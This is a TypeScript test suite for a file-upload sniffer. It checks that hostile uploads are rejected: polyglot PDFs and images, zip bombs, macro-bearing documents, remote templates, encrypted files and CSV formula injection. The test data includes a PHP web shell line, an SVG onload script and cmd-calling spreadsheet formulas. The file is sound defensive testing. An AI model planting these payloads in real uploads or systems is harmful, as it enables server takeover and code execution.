import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'

import { aPdf, OTHER_FILES, SMALL_FILES } from '../src/modules/files/files.fixture.js'
import { sniff } from '../src/modules/files/sniff.js'
import { DomainError } from '../src/shared/domain/errors.js'
import { FileStorage } from '../src/shared/storage/file-storage.js'
import { openSealed, putSealed } from '../src/shared/storage/sealed-object.js'
import {
  withParts,
  relations,
  relation,
  SETTINGS,
  withTypes,
  patched,
  UNPACKED,
  OFFSET,
  FLAGS,
  METHOD,
  zeros,
  SCRIPT,
  encrypted,
} from './support/hostile-files.js'
import { aZip } from './support/zips.js'

const { pdf, png, jpg, docx, xlsx, odt, csv } = SMALL_FILES

describe('A hostile file', () => {
  let folder: string
  let storage: FileStorage

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'ai-marketplace-hostile-'))
    storage = new FileStorage(folder)
    await storage.prepare('11111111-1111-4111-8111-111111111111')
  })
  afterAll(() => rm(folder, { recursive: true }))

  const outcome = async (name: string, bytes: Buffer): Promise<string> => {
    try {
      const { readable } = await sniff(await openSealed(storage, await putSealed(storage, Readable.from([bytes]), 50_000_000, [])), name)
      return readable ? 'taken' : 'not readable'
    } catch (error) {
      if (error instanceof DomainError) return error.code
      throw error
    }
  }

  it.each<[string, string, () => Buffer, string]>([
    // Two files in one
    [
      'a PDF with a page before its content',
      'a.pdf',
      () => Buffer.concat([Buffer.from(`%PDF-1.7\n%${SCRIPT}\n`), pdf]),
      'file-type-mismatch',
    ],
    ['a PDF with a page after its end', 'a.pdf', () => Buffer.concat([pdf, Buffer.from(SCRIPT)]), 'file-type-mismatch'],
    ['a PDF that is a ZIP too', 'a.pdf', () => Buffer.concat([pdf, OTHER_FILES.archive]), 'file-type-mismatch'],
    ['a PDF that is an office document too', 'a.pdf', () => Buffer.concat([pdf, docx]), 'file-type-mismatch'],
    ['a page with a PDF in it', 'a.pdf', () => Buffer.concat([Buffer.from(SCRIPT), pdf]), 'file-type-mismatch'],
    ['a PNG with a script after it', 'a.png', () => Buffer.concat([png, Buffer.from(SCRIPT)]), 'file-type-mismatch'],
    ['a PNG that is a ZIP too', 'a.png', () => Buffer.concat([png, OTHER_FILES.archive]), 'file-type-mismatch'],
    ['a JPEG with a script after it', 'a.jpg', () => Buffer.concat([jpg, Buffer.from(SCRIPT)]), 'file-type-mismatch'],
    [
      'a JPEG with a program for a server after it',
      'a.jpg',
      () => Buffer.concat([jpg, Buffer.from('<?php system($_GET[0]); ?>')]),
      'file-type-mismatch',
    ],
    [
      'a JPEG with a drawing that runs script',
      'a.jpeg',
      () => Buffer.concat([jpg, Buffer.from('<svg onload=alert(1)>')]),
      'file-type-mismatch',
    ],
    ['a JPEG that is a ZIP too', 'a.jpg', () => Buffer.concat([jpg, OTHER_FILES.archive]), 'file-type-mismatch'],

    // Packed to harm
    ['a document with a part of zeros', 'a.docx', () => withParts(docx, { 'word/media/a.bin': zeros(20_000_000) }), 'file-packed-too-much'],
    [
      'a document that unpacks to 257 MB, a mebibyte at a time',
      'a.docx',
      () => withParts(docx, Object.fromEntries(Array.from({ length: 257 }, (_, place) => [`word/media/${place}.bin`, zeros(1_048_576)]))),
      'file-packed-too-much',
    ],
    ['a document with a part larger than it says', 'a.docx', () => patched(docx, 2, UNPACKED, () => 7), 'file-packed-too-much'],
    ['a document with a part smaller than it says', 'a.docx', () => patched(docx, 2, UNPACKED, () => 70_000), 'not readable'],
    [
      'a document whose parts lie over each other',
      'a.docx',
      () => patched(docx, 2, OFFSET, zip => zip.readUInt32LE(zip.indexOf('PK\u0001\u0002') + OFFSET)),
      'file-packed-too-much',
    ],
    [
      'a document of 2,001 parts',
      'a.docx',
      () => withParts(docx, Object.fromEntries(Array.from({ length: 2_001 }, (_, place) => [`word/${place}`, '']))),
      'file-packed-too-much',
    ],
    ['a document that is packed in another way', 'a.docx', () => patched(docx, 2, METHOD, () => 14, 16), 'file-packed-too-much'],
    [
      'a document with a bomb in a table in it',
      'a.docx',
      () => withParts(docx, { 'word/embeddings/a.xlsx': withParts(xlsx, { 'xl/a.bin': zeros(20_000_000) }) }),
      'file-packed-too-much',
    ],
    [
      'a document with an archive in an archive in it',
      'a.docx',
      () => withParts(docx, { 'word/a.zip': aZip({ 'b.zip': aZip({ 'c.txt': 'x' }) }) }),
      'file-packed-too-much',
    ],
    ['a document whose directory is cut', 'a.docx', () => Buffer.concat([docx.subarray(0, -60), docx.subarray(-22)]), 'not readable'],
    [
      'a document whose parts are noise',
      'a.docx',
      () =>
        Buffer.from(docx).fill(
          0xff,
          docx.lastIndexOf('word/document.xml', docx.indexOf('PK\u0001\u0002')) + 17,
          docx.indexOf('PK\u0001\u0002'),
        ),
      'not readable',
    ],

    // Programs in documents
    ['a document with macros beside it', 'a.docx', () => withParts(docx, { 'word/vbaProject.bin': 'x' }), 'file-with-macros'],
    [
      'a document with macros under another folder and spelling',
      'a.docx',
      () => withParts(docx, { 'x\\VBAPROJECT.BIN': 'x' }),
      'file-with-macros',
    ],
    ['a table with a sheet of macros', 'a.xlsx', () => withParts(xlsx, { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'file-with-macros'],
    ['a document with an ActiveX control', 'a.docx', () => withParts(docx, { 'word/activeX/activeX1.bin': 'x' }), 'file-with-macros'],
    [
      'a document with a type that runs macros',
      'a.docx',
      () => withTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      'file-with-macros',
    ],
    [
      'a document with a part that is a project of macros',
      'a.docx',
      () => withTypes('application/vnd.ms-office.vbaProject'),
      'file-with-macros',
    ],
    [
      'a document with a document of macros in it',
      'a.docx',
      () => withParts(docx, { 'word/embeddings/a.docx': withParts(docx, { 'word/vbaProject.bin': 'x' }) }),
      'file-with-macros',
    ],
    [
      'a document with an old table in it, which may hold macros',
      'a.docx',
      () => withParts(docx, { 'word/embeddings/a.xls': Buffer.from('d0cf11e0a1b11ae100', 'hex') }),
      'file-with-macros',
    ],
    ['an open document with Basic in it', 'a.odt', () => withParts(odt, { 'Basic/Standard/Module1.xml': '<x/>' }), 'file-with-macros'],
    ['an open document with scripts', 'a.odt', () => withParts(odt, { 'Scripts/python/a.py': 'x' }), 'file-with-macros'],

    // Documents that fetch
    [
      'a document with a template from elsewhere',
      'a.docx',
      () => withParts(docx, { [SETTINGS]: relations(relation('attachedTemplate', 'https://x.example/a.dotm')) }),
      'file-reaches-out',
    ],
    [
      'a document with an object from elsewhere',
      'a.docx',
      () => withParts(docx, { 'word/_rels/document.xml.rels': relations(relation('oleObject', 'https://x.example/a')) }),
      'file-reaches-out',
    ],
    [
      'a document that hides that in references to characters',
      'a.docx',
      () =>
        withParts(docx, {
          [SETTINGS]: relations(relation('attached&#x54;emplate', 'https://x.example/a.dotm', 'TargetMode="&#69;xternal"')),
        }),
      'file-reaches-out',
    ],
    [
      'a document that hides that in words of its own',
      'a.docx',
      () => withParts(docx, { [SETTINGS]: `<!DOCTYPE x [<!ENTITY e "External">]>${relations()}` }),
      'file-reaches-out',
    ],
    [
      'a document that hides that in another encoding',
      'a.docx',
      () =>
        withParts(docx, { [SETTINGS]: Buffer.from(`\ufeff${relations(relation('attachedTemplate', 'https://x.example/a'))}`, 'utf16le') }),
      'file-reaches-out',
    ],

    // Under a password
    ['a PDF under a password', 'a.pdf', () => encrypted('/Encrypt 6 0 R'), 'file-encrypted'],
    ['a PDF whose trailer has it in itself', 'a.pdf', () => encrypted('/Encrypt<</Filter/Standard>>'), 'file-encrypted'],
    ['a PDF with that on two lines', 'a.pdf', () => encrypted('/Encrypt\r\n6 0\nR'), 'file-encrypted'],
    [
      'a document under a password, which is one of the old format',
      'a.docx',
      () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), zeros(2_000)]),
      'file-encrypted',
    ],
    ['a document with an encrypted part', 'a.docx', () => patched(docx, 2, FLAGS, () => 1, 16), 'file-encrypted'],
    [
      'an open document under a password',
      'a.odt',
      () => withParts(odt, { 'META-INF/manifest.xml': '<manifest:manifest><manifest:encryption-data/></manifest:manifest>' }),
      'file-encrypted',
    ],

    // Tables that calculate
    ['a table that calls a program', 'a.csv', () => Buffer.from("group,rate\nx,=cmd|' /C calc'!A0\n"), 'file-with-formulas'],
    ['a table with a link', 'a.csv', () => Buffer.from('group,rate\n"=HYPERLINK(""https://x.example"")",1\n'), 'file-with-formulas'],
    ['a table with a formula in its first cell', 'a.csv', () => Buffer.from('=1+1'), 'file-with-formulas'],
    ['a table with a formula behind blanks', 'a.csv', () => Buffer.from('a;b\n x;  =1+1\n'), 'file-with-formulas'],
    ['a table with a formula that begins with a sign', 'a.csv', () => Buffer.from('a\tb\nx\t+SUM(A1:A2)\n'), 'file-with-formulas'],
    ['a table with an old formula', 'a.csv', () => Buffer.from('a,b\nx,@SUM(A1:A2)\n'), 'file-with-formulas'],
    ['a table with a call between signs', 'a.csv', () => Buffer.from("a,b\nx,-2+3+cmd|' /C calc'!A0\n"), 'file-with-formulas'],
  ])('is not taken as evidence that counts: %s', async (_, name, bytes, expected) => {
    expect(await outcome(name, bytes())).toBe(expected)
  })

  it.each<[string, string, () => Buffer]>([
    ['a PDF about pages', 'a.pdf', () => aPdf(`How to write ${SCRIPT} and /Encrypt`)],
    ['a PDF with more after its first end', 'a.pdf', () => Buffer.concat([pdf, pdf.subarray(9)])],
    ['a JPEG with what a camera leaves after it', 'a.jpg', () => Buffer.concat([jpg, Buffer.from('SEFH\u0000\u0001SEFT')])],
    ['a document with a table in it', 'a.docx', () => withParts(docx, { 'word/embeddings/a.xlsx': xlsx })],
    [
      'a document with links and a linked table',
      'a.docx',
      () => withParts(docx, { 'word/_rels/document.xml.rels': relations(relation('hyperlink', 'https://x.example')) }),
    ],
    [
      'a document with a template of its own',
      'a.docx',
      () => withParts(docx, { [SETTINGS]: relations(relation('attachedTemplate', 'a.dotx', '')) }),
    ],
    ['a document with a picture that packs well', 'a.docx', () => withParts(docx, { 'word/media/a.bmp': zeros(1_000_000) })],
    [
      'a document with a comment at its end',
      'a.docx',
      () => Buffer.concat([docx.subarray(0, -2), Buffer.from([3, 0]), Buffer.from('abc')]),
    ],
    [
      'a table of numbers, signs, telephone numbers and names',
      'a.csv',
      () => Buffer.from('a,b\n-1,+2.5e3\n-,+44 (20) 7946 0958\n@name,a=b\n"x, =1",- none\n'),
    ],
    ['a plain text with an equals sign', 'a.txt', () => Buffer.from('=1+1')],
    ['a small table', 'a.csv', () => csv],
  ])('is none: %s', async (_, name, bytes) => {
    expect(await outcome(name, bytes())).toBe('taken')
  })
})
